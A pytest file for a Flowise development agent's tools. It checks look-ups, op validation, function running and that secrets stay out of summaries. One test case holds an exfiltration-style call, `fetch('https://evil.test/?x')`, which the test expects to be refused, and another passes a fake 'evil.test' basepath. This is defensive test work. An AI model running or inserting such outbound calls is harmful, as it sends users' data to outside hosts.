"""The tools of the Flowise domain: what they give, what they refuse, and what leaves this process."""

import json
import re
from dataclasses import replace
from typing import Any, get_args

import pytest

from flowise_dev_agent.agent import FlowiseCapability, ToolRegistry
from flowise_dev_agent.agent.domain import Domains, ToolScope
from flowise_dev_agent.agent.tools import ToolPhase
from flowise_dev_agent.approval.binding import capability_of
from flowise_dev_agent.approval.ops import PatchScope
from flowise_dev_agent.errors import FlowiseServerError
from flowise_dev_agent.flowise.flow_tags import draft_tag
from flowise_dev_agent.flowise.models import ChatflowCreate
from flowise_dev_agent.patch import AddNode, BindCredential, Connect, GraphIR, SetParam, compile_ops
from flowise_dev_agent.schemas.plan import PlannedNode, PlannedValue
from flowise_dev_agent.schemas.verdict import Trace, TracedSource, TracedTool, TraceStep
from tests.unit.agent.rig import OPENAI, OTHER_OPENAI, Bench, plan
from tests.unit.agent.test_graph import credentials, ops

SECRET = "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789ABCD"


@pytest.fixture
def bench() -> Bench:
    return Bench(ops(), credentials(OPENAI))


def scope(bench: Bench, **values: Any) -> ToolScope:
    context = bench.context()
    return ToolScope(flowise=context.flowise, knowledge=context.knowledge, session_id="s", **values)


def tools(bench: Bench, **values: Any) -> ToolRegistry:
    return Domains([FlowiseCapability()]).registry(scope(bench, **values))


def flow(bench: Bench, *more: Any) -> GraphIR:
    schemas = bench.knowledge.store.schemas
    return compile_ops(GraphIR.empty(), [*ops(), *more], schemas, credentials={"openAIApi": OPENAI}).graph


@pytest.mark.parametrize(("phase", "characters"), [("discover", 2_000), ("patch", 2_000), ("test", 2_000)])
def test_the_definitions_of_a_phase_are_short(bench: Bench, phase: ToolPhase, characters: int) -> None:
    """About four characters a token."""
    sent = [one.model_dump(include={"name", "description", "parameters"}) for one in tools(bench).tool_defs(phase)]

    assert len(json.dumps(sent, separators=(",", ":"))) < characters


@pytest.mark.parametrize("phase", get_args(ToolPhase))
def test_no_tool_takes_an_object_without_named_properties(bench: Bench, phase: ToolPhase) -> None:
    """Libraries of providers close each object, so that nothing but an empty one could be given."""
    sent = json.dumps([one.parameters["properties"] for one in tools(bench).tool_defs(phase)])

    assert '"object"' not in sent


def test_what_only_an_approved_plan_allows_is_no_tool_of_planning(bench: Bench) -> None:
    names = {one.name for one in tools(bench).tool_defs("discover")}

    assert not names & {"flowise.check_ops", "flowise.run_function", "flowise.ask_flow"}
    assert {"flowise.get_node", "flowise.list_options", "flowise.use_pattern"} <= names


@pytest.mark.parametrize(
    ("name", "arguments", "shown"),
    [
        ("search_nodes", {"query": "postgres vector store"}, "- postgres (Vector Stores)"),
        ("search_nodes", {"query": "", "category": "Agent Flows", "limit": 1}, "only AGENTFLOW"),
        ("search_nodes", {"query": "qqqqqq"}, "No node type fits"),
        ("get_node", {"name": "Chat OpenAI", "ignored": 1}, "### chatOpenAI (Chat Models)"),
        ("search_templates", {"query": "sql"}, "SQL Agent"),
        ("list_credentials", {}, "openAIApi (1)"),
        ("list_flows", {"query": "shop"}, "The server has no flows."),
        ("search_patterns", {"query": "a support bot"}, "No pattern fits."),
    ],
)
async def test_look_ups_answer_in_lines(bench: Bench, name: str, arguments: Any, shown: str) -> None:
    result = await tools(bench).call(name, arguments)

    assert result.ok
    assert shown in result.summary


@pytest.mark.parametrize(
    ("name", "arguments", "shown"),
    [
        ("get_node", {"name": "chatOpenAl"}, "Close names: chatOpenAI"),
        ("get_node", {"nam": "chatOpenAI"}, "name: Field required"),
        ("list_options", {"node": "chatOpenAI", "param": "temperature"}, "has no list of options"),
        ("list_options", {"node": "llmAgentflow", "param": "llmModelConfig.nothing"}, "component inside"),
        ("list_options", {"node": "chatOpenAI", "param": "modelName", "node_id": "x"}, "no chatOpenAI with the id"),
        (
            "list_options",
            {"node": "chatOpenAI", "param": "modelName", "node_id": "bufferMemory_0"},
            "no chatOpenAI with the id",
        ),
        ("use_pattern", {"pattern_id": 7}, "has not found a pattern 7"),
    ],
)
async def test_mistakes_are_answered_with_what_to_do(bench: Bench, name: str, arguments: Any, shown: str) -> None:
    result = await tools(bench, stored=flow(bench)).call(name, arguments)

    assert not result.ok
    assert shown in result.summary


async def test_options_are_listed_with_stored_values_and_a_credential_that_code_chose(bench: Bench) -> None:
    bench.flowise.options = [{"name": "chatgpt-4o-latest", "label": "ChatGPT"}, {"name": "gpt-5.4", "label": "gpt-5.4"}]
    stored = flow(bench, SetParam(node_id="chatOpenAI_0", param_name="basepath", value="https://models.house.test"))
    call = {"node": "chatOpenAI", "param": "modelName", "inputs": {"basepath": "https://evil.test"}, "credential": "x"}

    known = await tools(bench, stored=stored).call("list_options", {**call, "node_id": "chatOpenAI_0"})
    await tools(bench, stored=stored).call("list_options", call)

    # A model that its provider has ended is called so: a plan with it would go back.
    assert known.summary == "modelName: chatgpt-4o-latest (ChatGPT), ended on 2026-02-17, in its place gpt-5.4; gpt-5.4"
    first, second = bench.flowise.option_calls
    assert (first["credential_id"], first["inputs"]["basepath"]) == (OPENAI, "https://models.house.test")
    assert (second["credential_id"], second["inputs"]) == (OPENAI, None)


async def test_of_several_credentials_only_the_chosen_one_is_sent(bench: Bench) -> None:
    bench.knowledge.credential_store = credentials(OPENAI, OTHER_OPENAI)
    call = {"node": "chatOpenAI", "param": "modelName"}

    await tools(bench).call("list_options", call)
    await tools(bench, chosen={"openAIApi": OTHER_OPENAI}).call("list_options", call)

    assert [one["credential_id"] for one in bench.flowise.option_calls] == [None, OTHER_OPENAI]


@pytest.mark.parametrize("options", [[], [{"name": "error", "label": "No Available Actions"}]])
async def test_options_that_need_a_credential_say_which_type_is_missing(bench: Bench, options: Any) -> None:
    bench.flowise.options = options
    result = await tools(bench).call("list_options", {"node": "slackMCP", "param": "mcpActions"})
    assert "without a credential of the type slackOAuth2 or slackApi" in result.summary
    assert "No Available Actions" not in result.summary


async def test_static_options_and_options_of_rows_are_found_by_their_path(bench: Bench) -> None:
    bench.flowise.options = [{"name": "calculator"}]

    static = await tools(bench).call("list_options", {"node": "chatOpenAI", "param": "reasoningEffort"})
    rows = await tools(bench).call(
        "list_options", {"node": "agentAgentflow", "param": "agentTools[0].agentSelectedTool"}
    )

    assert static.summary.startswith("reasoningEffort: low")
    assert rows.summary == "agentSelectedTool: calculator"
    assert bench.flowise.option_calls[0]["method"] == "listTools"


async def test_a_template_is_shown_as_ops_without_ids_positions_and_secrets(bench: Bench) -> None:
    made = flow(
        bench,
        BindCredential(node_id="chatOpenAI_0", credential_id=OPENAI),
        AddNode(node_name="serpAPI", node_id="serpAPI_0"),
        SetParam(
            node_id="conversationChain_0", param_name="systemMessagePrompt", value=f"Use {SECRET}. " + "x" * 2_000
        ),
    )
    bench.knowledge.template_flows["SQL Agent"] = made.to_flow_data()

    result = await tools(bench).call("get_template", {"name": "sql agent"})

    assert '{"op_type":"AddNode","node_name":"chatOpenAI"' in result.summary
    assert not any(word in result.summary for word in (OPENAI, SECRET, "SetPosition", "BindCredential"))
    assert max(map(len, result.summary.splitlines())) <= 500


async def test_flows_of_the_server_are_listed_without_drafts_and_read_in_lines(bench: Bench) -> None:
    data = flow(bench).to_flow_data()
    shop = bench.flowise.add(ChatflowCreate(name="Shop bot", flow_data=data))
    bench.flowise.add(ChatflowCreate(name="Shop bot", flow_data=data, category=draft_tag(bench.session_id)))
    registry = tools(bench, base=flow(bench))

    listed = await registry.call("list_flows", {"query": "shop"})
    read = await registry.call("read_flow", {"chatflow_id": shop.id})
    own = await registry.call("read_flow", {})

    assert listed.summary.count("Shop bot") == 1
    assert "chatOpenAI_0 (chatOpenAI)" in read.summary
    assert own.summary.startswith("The session's flow:\n3 nodes:")
    assert OPENAI not in read.summary


async def test_flows_are_told_apart_by_their_prompts_which_are_shown_without_secrets(bench: Bench) -> None:
    def with_prompt(name: str, text: str) -> str:
        prompt = SetParam(node_id="conversationChain_0", param_name="systemMessagePrompt", value=text)
        return bench.flowise.add(ChatflowCreate(name=name, flow_data=flow(bench, prompt).to_flow_data())).id

    meant = with_prompt("HR Texter v2", "You write friendly job adverts. " + "Be brief. " * 200)
    other = with_prompt("Mutfak 7", f"You suggest meals from what is at home. Use {SECRET}.")

    listed = await tools(bench).call("list_flows", {"query": "the one with the job adverts"})
    read = await tools(bench).call("read_flow", {"chatflow_id": meant})
    meals = await tools(bench).call("list_flows", {"query": "meals"})
    hidden = await tools(bench).call("read_flow", {"chatflow_id": other})

    assert "HR Texter v2" in listed.summary.splitlines()[0]
    assert "You write friendly job adverts." in listed.summary
    assert "Mutfak" not in listed.summary
    assert "conversationChain_0.systemMessagePrompt:\nYou write friendly job adverts." in read.summary
    assert "You suggest meals" in meals.summary
    assert SECRET not in meals.summary + hidden.summary
    assert 800 < len(read.summary) < 3_000


async def test_ops_are_checked_against_plan_and_server_and_nothing_is_written(bench: Bench) -> None:
    approved = plan()
    schemas = bench.knowledge.store.schemas
    approved = approved.model_copy(update={"capability": capability_of(approved, schemas, GraphIR.empty())})
    registry = tools(bench, plan=approved, chosen={"openAIApi": OPENAI})
    right = [op.model_dump(mode="json") for op in ops()]
    beyond = [*right, {"op_type": "AddNode", "node_name": "requestsGet", "node_id": "requestsGet_0"}]

    good = await registry.call("check_ops", {"ops": json.dumps(right)})
    outside = await registry.call("check_ops", {"ops": beyond})
    less = await registry.call("check_ops", {"ops": right[:1]})
    broken = await registry.call("check_ops", {"ops": [{"op_type": "AddNod"}]})
    unread = [await registry.call("check_ops", {"ops": text}) for text in ("[{", "[" * 100_000, '"AddNode"')]

    assert good.summary.startswith(("The ops are right.", "0 errors"))
    assert "OUTSIDE_PLAN" in outside.summary
    assert "PLAN_NOT_MET" in less.summary
    assert "UNKNOWN_OP" in broken.summary
    assert not any(result.ok for result in unread)
    assert bench.flowise.flows == {}


def checking(bench: Bench, **more: Any) -> ToolRegistry:
    """The tools of an approved plan that sets a temperature."""
    value = PlannedValue(node_id="chatOpenAI_0", param="temperature", value=0.3)
    approved = plan(values=[value])
    capability = capability_of(approved, bench.knowledge.store.schemas, GraphIR.empty())
    approved = approved.model_copy(update={"capability": capability})
    return tools(bench, plan=approved, **{"chosen": {"openAIApi": OPENAI}, **more})


async def test_checked_ops_need_no_value_that_code_sets_from_the_plan(bench: Bench) -> None:
    result = await checking(bench).call("check_ops", {"ops": [op.model_dump(mode="json") for op in ops()]})

    assert result.summary == "The ops are right."


async def test_a_change_of_planned_values_alone_is_checked_without_ops(bench: Bench) -> None:
    result = await checking(bench, base=flow(bench)).call("check_ops", {"ops": []})

    assert result.summary == "The ops are right."


async def test_ops_are_checked_as_the_graph_checks_them(bench: Bench) -> None:
    loose = [op.model_dump(mode="json") for op in ops() if not isinstance(op, Connect)]
    limits = PatchScope(nodes=[], max_ops=1, max_new_nodes=1)
    removal = [{"op_type": "RemoveNode", "node_id": "bufferMemory_0"}]

    unconnected = await checking(bench).call("check_ops", {"ops": loose})
    too_many = await checking(bench, limits=limits).call("check_ops", {"ops": loose})
    removed = await checking(bench, base=flow(bench)).call("check_ops", {"ops": removal})
    unplanned = await tools(bench).call("check_ops", {"ops": loose})

    assert re.search(r"^- error: .*ISOLATED_NODE", unconnected.summary, re.MULTILINE)
    assert {item.code for item in too_many.data} >= {"TOO_MANY_OPS", "TOO_MANY_NODES"}
    assert "REMOVAL_NOT_PLANNED" in removed.summary
    assert not unplanned.ok


async def test_a_credential_that_a_model_names_is_not_taken_and_skipped_ones_are_no_error(bench: Bench) -> None:
    foreign = [*ops(), BindCredential(node_id="chatOpenAI_0", credential_id=OTHER_OPENAI)]
    call = {"ops": [op.model_dump(mode="json") for op in foreign]}
    bench.knowledge.credential_store = credentials()

    missing = await checking(bench, chosen={}).call("check_ops", call)
    skipped = await checking(bench, chosen={}, without_credentials=True).call("check_ops", call)

    severities = [
        {item.severity for item in result.data if item.code == "CREDENTIAL_UNBOUND"} for result in (missing, skipped)
    ]
    assert severities == [{"error"}, {"warning"}]


def approved_code(bench: Bench) -> Any:
    code = plan(nodes=[PlannedNode(node_id="customFunction_0", node_name="customFunction", purpose="converts")])
    capability = capability_of(code, bench.knowledge.store.schemas, GraphIR.empty())
    return code.model_copy(update={"capability": capability})


async def test_code_of_the_plan_runs_on_sample_variables(bench: Bench) -> None:
    bench.flowise.function_result = {"total": 2, "key": SECRET}
    registry = tools(bench, plan=approved_code(bench))
    call = {"node_id": "customFunction_0", "code": "return { total: $rows.length }", "variables": '{"rows": [1, 2]}'}

    result = await registry.call("run_function", call)
    bench.flowise.function_result = FlowiseServerError("ReferenceError: $rows is not defined")
    failed = await registry.call("run_function", call)

    assert bench.flowise.functions[0] == ("return { total: $rows.length }", {"rows": [1, 2]})
    assert result.summary.startswith('The function gives dict: {"total": 2')
    assert SECRET not in result.summary
    assert failed.summary == "The function fails: ReferenceError: $rows is not defined"


@pytest.mark.parametrize(
    ("approved", "call", "why"),
    [
        (False, {"node_id": "customFunction_0", "code": "return 1"}, "has no code"),
        (True, {"node_id": "chatOpenAI_0", "code": "return 1"}, "has no code"),
        (True, {"node_id": "customFunction_0", "code": "fetch('https://evil.test/?x')"}, "evil.test"),
        (True, {"node_id": "customFunction_0", "code": "return $vars.key"}, "server's variables"),
        (True, {"node_id": "customFunction_0", "code": "x" * 20_001}, "at most 20000 characters"),
    ],
)
async def test_code_beyond_the_approved_plan_never_runs(bench: Bench, approved: bool, call: Any, why: str) -> None:
    registry = tools(bench, plan=approved_code(bench) if approved else None)

    result = await registry.call("run_function", {"variables": {}, **call})

    assert not result.ok
    assert why in result.summary
    assert bench.flowise.functions == []


async def test_the_tested_flow_answers_a_few_more_questions_and_forgets_them(bench: Bench) -> None:
    bench.flowise.answers = {"Who?": f"Ana {SECRET}", "Why?": FlowiseServerError("no key")}
    registry = tools(bench, tested_id="flow-1")

    asked = [await registry.call("ask_flow", {"question": question}) for question in ("Who?", "Why?", "How?", "When?")]

    assert [one.ok for one in asked] == [True, True, True, False]
    assert asked[0].summary.startswith("Answer: Ana")
    assert SECRET not in asked[0].summary
    assert asked[1].summary == "The flow fails: no key"
    sessions = [session for _, session in bench.flowise.asked]
    assert sessions == ["fda-ask-s-1", "fda-ask-s-2", "fda-ask-s-3"]
    assert bench.flowise.forgotten == [("flow-1", session) for session in sessions]


async def test_a_trace_is_read_in_lines_by_the_number_of_its_trial(bench: Bench) -> None:
    trace = Trace(
        steps=[TraceStep(node_id="llmAgentflow_0", status="FINISHED", output={"content": f"{SECRET} " + "x" * 900})],
        used_tools=[TracedTool(tool="calculator", input="2+2", output="4")],
        sources=[TracedSource(text="Returns within 30 days.")],
    )
    sha256 = await bench.blobs.put(trace.model_dump_json())
    registry = tools(bench, tested_id="flow-1", traces=[None, sha256], blobs=bench.context().blobs)

    read, missing = [await registry.call("read_trace", {"trial": trial}) for trial in (2, 1)]

    step, tool, source = read.summary.splitlines()
    assert step.startswith('- step llmAgentflow_0 FINISHED: {"content"')
    assert len(step) < 400
    assert SECRET not in step
    assert tool == "- tool calculator(2+2): 4"
    assert source == "- source: Returns within 30 days."
    assert not missing.ok
    assert "2 trials" in missing.summary


async def test_without_a_tested_flow_nothing_is_asked(bench: Bench) -> None:
    assert not (await tools(bench).call("ask_flow", {"question": "Hi"})).ok
    assert bench.flowise.asked == []


def test_a_scope_without_a_session_has_no_plan_and_no_flow(bench: Bench) -> None:
    empty = scope(bench)

    assert replace(empty, plan=None, stored=None, tested_id=None, original=None) == empty
